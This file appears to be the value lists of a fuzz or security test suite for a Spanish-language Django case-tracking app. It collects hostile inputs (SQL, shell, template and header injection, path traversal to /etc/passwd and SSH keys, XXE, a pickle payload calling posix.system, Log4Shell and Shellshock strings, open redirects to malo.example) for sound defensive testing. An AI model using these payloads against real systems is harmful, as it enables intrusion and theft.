"""The values: what a field, a parameter, a name or a header is not made for."""

import random

# What the pages must never show as it came. Each begins like this, so that one look finds them all.
MARCA = "xq"
INYECCIONES = [
    "<xq1 onx=1>",
    "<xq2/onx=1//",
    "</title><xq3>",
    "</textarea><xq4 onx=1>",
    "--><xq5>",
    "]]><xq6>",
    '" onfocus=xq7 autofocus x="',
    "' onfocus=xq8 autofocus x='",
    "javascript:xq9()",
    "{{7*7}}xq",
    "{% now 'Y' %}xq",
    "${7*7}xq",
    "#{7*7}xq",
    "<%= 7*7 %>xq",
    "%s%s%n%x xq",
    "{0.__class__}{xq}",
    "' OR '1'='1' -- xq",
    "'; SELECT pg_sleep(3); -- xq",
    "1) OR (SELECT 1 FROM pg_sleep(3)) IS NOT NULL -- xq",
    "'||(SELECT randomblob(900000000))||'xq",
    "\\'; DROP TABLE casos_caso; -- xq",
    "$(sleep 3)xq",
    "`sleep 3`xq",
    "| sleep 3 # xq",
    "=1+1+xq",
    "+1+1+xq",
    "-1+1+xq",
    "@SUM(1+1)*xq",
    '=HYPERLINK("http://malo.example/xq","xq")',
    "\t=1+1 xq",
    "Ana\r\nBcc: xq@malo.example",
    "Ana\r\nX-Xq: inyectada\r\n\r\n<xq10>",
    "%0d%0aX-Xq: inyectada",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "file:///etc/passwd",
    "http://127.0.0.1:1/xq",
    "*)(uid=*))(|(uid=* xq",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
]
NUMEROS = [
    "0", "-0", "-1", "1e400", "-1e400", "NaN", "Infinity", "1" + "0" * 30, "9" * 400, "2147483648",
    "9223372036854775808", "-9223372036854775809", "999999999", "0x1f", "1_000", "1e5", "0.1e-300", "１２３",
    "٣٤", "²", "½", "Ⅷ", "1,5", "1.234,56", "--1", "+1", " 1", "1 ", "1\n", "1;2", "[1]", "None", "null",
    "true", "", "0001-01-01", "9999-12-31", "2026-02-31", "-2026-01-01", "0001-01-01T00:00", "9999-12-31T23:59",
    "2026-11-28T25:61", "2026-W48", "１２-11-2026", "99/99/9999",
]  # fmt: skip
TEXTOS = [
    "", " ", "\t", "\n\n", "\x00", "antes\x00después", "\x1b[31mrojo\x1b[0m", "\x07\x08\x0b\x7f", "\u202eمرحبا\u202c",
    "\u200b\u200d\ufeff", "e\u0301" * 40, "Z̷̡̛͈̪̗͕̠̣̘̓͛͒̿a̸l̷g̶o" * 20, "👩🏽‍🏭🇲🇽" * 60, "\U000e0041\U000e007f", "\ufffe\uffff", "\ud7ff\ue000",
    "ﷺ" * 300, "İıſK", "ß" * 50, "A" * 1001, "ñ" * 4001, "á" * 6000, "\r\n" * 3000, "a" * 100_000,
    "á é " * 25_000, "a" * 30 + "!" * 4000, "@" * 3000, "(" * 3000, "1-" * 3000, "a.a" * 3000, "." * 300,
    "[" * 900 + "]" * 900, '{"a":' * 400 + "1" + "}" * 400, "&" * 1000, "&#x3c;xq11&#62;", "&lt;xq12&gt;", "%3Cxq13%3E",
    "SV-2026-000001", "-", "N/A", ".", "\u2028\u2029", "\xa0\xa0",
]  # fmt: skip
# Bytes that are no text at all: lone surrogates as UTF-8 and as CESU, cut and overlong sequences, other charsets.
BYTES = [
    b"\xff\xfe", b"\xed\xa0\x80", b"\xed\xa0\xbd\xed\xb8\x80", b"\xc3", b"\xc3(", b"\xe2\x82", b"\xf0\x9f\x98",
    b"\xc0\x80", b"\xc0\xaf..\xc0\xaf", b"\xf8\x88\x80\x80\x80", b"\xf4\x90\x80\x80", "año".encode("latin-1"),
    "año".encode("utf-16"), "año".encode("utf-7"), b"\x00\x01\x02\x03", b"\x1b$B", b"\x80" * 100,
]  # fmt: skip
NOMBRES_DE_ARCHIVO = [
    "../../../etc/passwd.pdf", "..\\..\\x.pdf", "/etc/passwd", "C:\\x.pdf", "x.pdf\x00.exe", "\u202efdp.exe", "x.pdf.exe",
    "x.exe.pdf", ".pdf", "pdf", "", " ", ".", "..", "con.pdf", "a" * 300 + ".pdf", "ñ" * 300 + ".pdf", "x\r\nX-Xq: inyectada.pdf",
    'x"; filename="y.pdf', "x;y.pdf", "<xq14 onx=1>.pdf", "'\"><xq15>.pdf", "=1+1.pdf", "%2e%2e%2fx.pdf", "x.pdf/", "x.PDF", "😀.pdf",
    "{{7*7}}xq.pdf", "$(sleep 3).pdf", "x.svg", "x.html", "x.php", "x.docm", "x.zip", "x.pdf:zona", "~/.ssh/id_rsa",
]  # fmt: skip
# Names that no form of ours has, but models or frameworks do.
DE_MAS = [
    "is_superuser", "is_staff", "is_active", "es_gerente", "rol", "password", "username", "user", "user_id", "id", "pk",
    "estado", "responsable", "responsable_id", "registrado_por", "version", "folio", "huella", "num_eventos",
    "huella_cabeza", "resultado", "area", "areas", "cliente", "cliente_id", "contrato", "caso", "caso_id", "evento",
    "en", "creado_en", "_method", "_save", "_continue", "_popup", "_to_field", "action", "select_across", "next", "debug",
    "__proto__", "constructor", "a[b][c]", "a[]", "a.b.c", "__class__", "self", "request", "csrfmiddlewaretoken",
    "form-TOTAL_FORMS", "form-INITIAL_FORMS", "vence", "dada_por", "actor", "suple_a", "sin_segregacion", "olvidada",
]  # fmt: skip
METODOS = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE"]
METODOS_RAROS = [
    "CONNECT",
    "PROPFIND",
    "LOCK",
    "MKCOL",
    "SEARCH",
    "XQMETODO",
    "get",
    "post",
    "P",
    "POSTPOST" * 10,
]
DESTINOS = [
    "//malo.example/", "///malo.example", "////malo.example", "https://malo.example/", "http:malo.example", "https:/malo.example",
    "\\\\malo.example", "/\\malo.example", "/\t/malo.example", "//malo.example\\@127.0.0.1", "http://127.0.0.1@malo.example/",
    "//malo.example%2f..", "javascript:xq9()", "data:text/html,<xq16>", "/%0d%0aX-Xq:%20inyectada", "\r\nX-Xq: inyectada",
    "http://malo.example#127.0.0.1", "//google.com/%2e%2e", "http://[::1]malo.example", "http://malo。example/", "ftp://malo.example",
    "//127.0.0.1:1/", "?next=//malo.example", "/\x00", "http://ⓜalo.example", " //malo.example", "\x01//malo.example", "//[", "http://[",
]  # fmt: skip
ANFITRIONES = [
    "malo.example", "malo.example:80", "127.0.0.1.malo.example", "localhost.malo.example", "127.0.0.1:malo", "127.0.0.1:99999",
    "127.0.0.1@malo.example", "127.0.0.1 malo.example", "127.0.0.1/malo", "127.0.0.1,malo.example", "[::1", "[::1]:x", "", ".", "*",
    "LOCALHOST.", "127.1", "0x7f.1", "2130706433", "127.0.0.1\tx", "é.example", "xn--malo", "-", "a" * 3000, "127.0.0.1:80:80",
]  # fmt: skip
RUTAS = [
    "/casos/../admin/", "/casos/%2e%2e/admin/", "/casos/..%2fadmin/", "/casos/..;/admin/", "//admin/", "///", "/./", "/%2e/",
    "/casos//", "/casos/;x=1/", "/CASOS/", "/casos", "/casos/%00/", "/casos/%0d%0aX-Xq:%20inyectada/", "/casos/%ff%fe/",
    "/casos/%c0%af/", "/casos/%ed%a0%80/", "/%E2%80%AE/", "/casos/SV-２０２６-000001/", "/casos/SV-2026-000001%20/", "/casos/sv-2026-000001/",
    "/static/../seguimiento/settings.py", "/static/%2e%2e/%2e%2e/etc/passwd", "/static/..%2f..%2fetc/passwd", "/static/%2fetc/passwd",
    "/static//etc/passwd", "/static/", "/static/css/", "/static/img/../../manage.py", "/static/%00", "/var/clave_secreta",
    "/var/seguimiento.sqlite3", "/.git/config", "/.git/HEAD", "/.env", "/archivos/../var/", "/archivos/1/../2/", "/archivos/-1/", "/archivos/1.5/",
    "/archivos/1e3/", "/archivos/0x1/", "/archivos/٣/", "/archivos/999999999999999999999/", "/media/", "/admin/../", "/admin/jsi18n/..%2f",
    "/admin/casos/", "/admin/auth/", "/admin/casos/noexiste/", "/admin/r/1/1/", "/admin/r/99999/1/", "/admin/r/99999999999999999999/1/", "/admin/r/4/%27/",
    "/admin/casos/caso/%00/change/", "/admin/casos/caso/_5F/change/", "/admin/casos/caso/1_2F_2E_2E/change/", "/admin/casos/usuario/%3Cxq17%3E/change/",
    "/cuenta/password/reset/key/1-x/", "/cuenta/password/reset/key/%00-%00/", "/cuenta/password/reset/key/zzzzzzzzzzzzz-set-password/",
    "/cuenta/confirm-email/%3Cxq18%3E/", "/casos/SV-2026-000001/__class__/", "/casos/SV-2026-000001/registrar/", "/casos/calculo/%3Cxq19%3E/",
    "/casos/calculo/tarifa/", "/clientes/exportar/usuarios/", "/clientes/plantilla/..%2f..%2fx/", "/robots.txt/", "/favicon.ico?x", "/.well-known/",
    "/salud/detalle/?token=x", "/server-status", "/phpmyadmin/", "/?" + "&" * 500, "/?%", "/?=%=&%00", "/#x", "*", "/%", "/%zz", "/%u0041",
    "/" + "a/" * 1500, "/" + "x" * 8000, "/" + "%2e%2e/" * 300,
]  # fmt: skip
# Header → values; each alone, beside what a browser sends.
CABECERAS = {
    "Range": ["bytes=0-", "bytes=-1", "bytes=5-1", "bytes=0-0,1-1", "bytes=" + ",".join(["0-"] * 500), "x=1", "bytes=99999999999999999999-"],
    "If-Modified-Since": ["ayer", "Thu, 01 Jan 1970 00:00:00 GMT", "Thu, 99 Jan 99999 99:99:99 GMT", "0", "Sat, 28 Nov 2226 00:00:00 GMT"],
    "If-Unmodified-Since": ["ayer", "Thu, 01 Jan 1970 00:00:00 GMT"],
    "If-None-Match": ["*", '"', 'W/"', '"x"' * 500, "x,,,,"],
    "If-Match": ["*", '"x"', ",", '"' * 99],
    "If-Range": ["x", '"x"'],
    "Accept": ["", "*", "*/*;q=x", "application/json", "text/html;q=-1", "," * 500, "a/b;" * 500, "text/html; version='"],
    "Accept-Encoding": ["", "*", "gzip;q=0", "gzip;q=x", "br, zstd, xq", "identity;q=0, *;q=0", "gzip," * 800],
    "Accept-Language": ["zz", "en", "en-US,en;q=0.9", "*;q=x", "../../etc", "es_MX" * 300, "en;q=1" * 500, "\xff", "a-" * 400],
    "Accept-Charset": ["utf-7", "x" * 500],
    "Content-Encoding": ["gzip", "xq"],
    "Content-Length": ["-1", "+5", "0x5", "5 5", "٣", "99999999999999999999", "13000000", ""],
    "Transfer-Encoding": ["chunked, identity", "xq", "identity", " chunked"],
    "Expect": ["100-continue", "xq"],
    "Upgrade": ["h2c", "websocket"],
    "Origin": ["null", "http://malo.example", "http://127.0.0.1.malo.example", "xq", "http://["],
    "Referer": ["http://malo.example/", "xq", "http://[", "javascript:xq9()", "\xff"],
    "HX-Request": ["true", "xq", "TRUE"],
    "HX-Target": ["historia", "historia-mas", "filtros", "parecidos", "<xq20>", "x" * 5000],
    "HX-Current-URL": ["http://malo.example/x", "//malo.example", "javascript:xq9()", "http://[", "\xff", "x" * 7000, "http://127.0.0.1\\@malo.example/"],
    "HX-Boosted": ["true"],
    "HX-Trigger": ["<xq21>", "\xff"],
    "HX-Prompt": ["<xq22>", "%ff%00"],
    "HX-History-Restore-Request": ["true"],
    "HX-Current-URL-URI-AutoEncoded": ["true"],
    "X-Forwarded-For": ["127.0.0.1", "1.2.3.4, 5.6.7.8", "<xq23>", "::1", "x" * 5000, "' OR 1=1"],
    "X-Forwarded-Host": ["malo.example"],
    "X-Forwarded-Proto": ["https", "xq"],
    "X-Forwarded-Port": ["1", "xq"],
    "X-Forwarded-Prefix": ["//malo.example"],
    "Forwarded": ["for=x;host=malo.example;proto=https"],
    "X-Original-URL": ["/admin/"],
    "X-Rewrite-URL": ["/admin/"],
    "X-HTTP-Method-Override": ["DELETE", "PUT"],
    "X-Method-Override": ["DELETE"],
    "X-Requested-With": ["XMLHttpRequest"],
    "X-CSRFToken": ["xq", "\xff", "x" * 5000],
    "Authorization": ["Basic eA==", "Basic \xff", "Bearer xq", "Bearer " + "x" * 5000, "Bearer", "Digest x"],
    "X-Real-IP": ["127.0.0.1", "xq"],
    "REMOTE_USER": ["admin"],
    "Remote-User": ["admin"],
    "X-Remote-User": ["admin"],
    "User-Agent": ["", "<xq24 onx=1>", "x" * 7000, "() { :;}; sleep 3", "\xff\xfe", "${jndi:ldap://malo.example/xq}"],
    "Cache-Control": ["no-cache", "max-age=x"],
    "Pragma": ["xq"],
    "Via": ["1.1 x" * 200],
    "Connection": ["keep-alive, Host", "Cookie", "upgrade"],
    "TE": ["trailers", "xq"],
    "Max-Forwards": ["0", "-1"],
    "Sec-Fetch-Site": ["cross-site", "xq"],
    "Date": ["xq"],
    "Content-Type": ["", "x", "text/plain; charset=rot13", "a; b*=nope''%ff", "text/html; charset=\xff"],
    "Content-Disposition": ["attachment; filename=x"],
    "Xq-" + "x" * 2000: ["1"],
}  # fmt: skip
TIPOS = [
    "", "x", "/", "text/plain", "application/json", "application/xml", "text/xml", "application/octet-stream", "application/x-php",
    "application/x-www-form-urlencoded; charset=utf-16", "application/x-www-form-urlencoded; charset=utf-7", "application/x-www-form-urlencoded; charset=",
    "application/x-www-form-urlencoded; charset=rot13", 'application/x-www-form-urlencoded; charset="utf-32"', "application/x-www-form-urlencoded; charset=idna",
    "application/x-www-form-urlencoded; charset=base64", "application/x-www-form-urlencoded; charset=unicode_escape", "application/x-www-form-urlencoded;;;;",
    "application/x-www-form-urlencoded; charset=latin-1", "application/x-www-form-urlencoded; charset=iso-8859-1; charset=utf-16",
    "application/x-www-form-urlencoded; charset*=UTF-8''idna", "multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=\xff",
    "multipart/form-data; boundary=" + "x" * 300, "multipart/form-data; boundary=a b", 'multipart/form-data; boundary="', "multipart/mixed; boundary=f",
    "multipart/form-data; boundary=f; charset=utf-16", "MULTIPART/FORM-DATA; BOUNDARY=f", "application/json; charset=utf-8", "application/x-java-serialized-object",
    "application/grpc", "image/svg+xml", "text/html", "\xff/\xff", "application/x-www-form-urlencoded, text/html",
]  # fmt: skip
CUERPOS = [
    b"", b"x", b"=", b"&&&&", b"%", b"%zz=%zz", b"a=%ff%00&%=%&==", b"{}", b'{"a":', b"[" * 20_000, b'{"a":' * 20_000, b"null",
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">' + b"".join(b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9)) + b"]><l>&j;</l>",
    b"\x80\x04\x95\x1e\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x07sleep 3\x94\x85\x94R\x94.", b"O:8:\"stdClass\":0:{}",
    b"\xac\xed\x00\x05sr\x00", b"\x00" * 5000, b"\x1f\x8b\x08" + b"x" * 100, b"a=1;b=2", b"a=1\r\n\r\nGET /admin/ HTTP/1.1\r\nHost: x\r\n\r\n",
]  # fmt: skip
COOKIES = [
    "", "=", ";", ";;;=;=", "sessionid", "sessionid=", "sessionid==", 'sessionid="', 'sessionid="\\000"', "sessionid=\xff", "sessionid=" + "a" * 32,
    "sessionid=" + "a" * 6000, "sessionid='; SELECT pg_sleep(3)--", "sessionid=../../x", "sessionid=a; sessionid=b", "csrftoken=\xff", "csrftoken=x",
    "csrftoken=" + "a" * 5000, "quien=1", "quien=1:x:y", "quien=admin:1x:x", "quien=\\000", "messages=x", "messages=[[\"__json_message\",0,20,\"<xq25>\"]]",
    "__Host-sessionid=x", "__Secure-sessionid=x", "a=b" * 1000, "; ".join(f"c{i}=1" for i in range(500)), "$Version=1; sessionid=x", "sessionid=x, csrftoken=y",
    "\x01=\x02", "sessionid=\x7f", "Expires=x; Path=/; sessionid=x", "sessionid=%00", "sessionid=é", "[]=x", "sessionid[]=x",
]  # fmt: skip


def valor(azar: random.Random) -> str | bytes:
    """Any of them, each kind as often."""
    return azar.choice(azar.choice([INYECCIONES, NUMEROS, TEXTOS, BYTES, DESTINOS]))
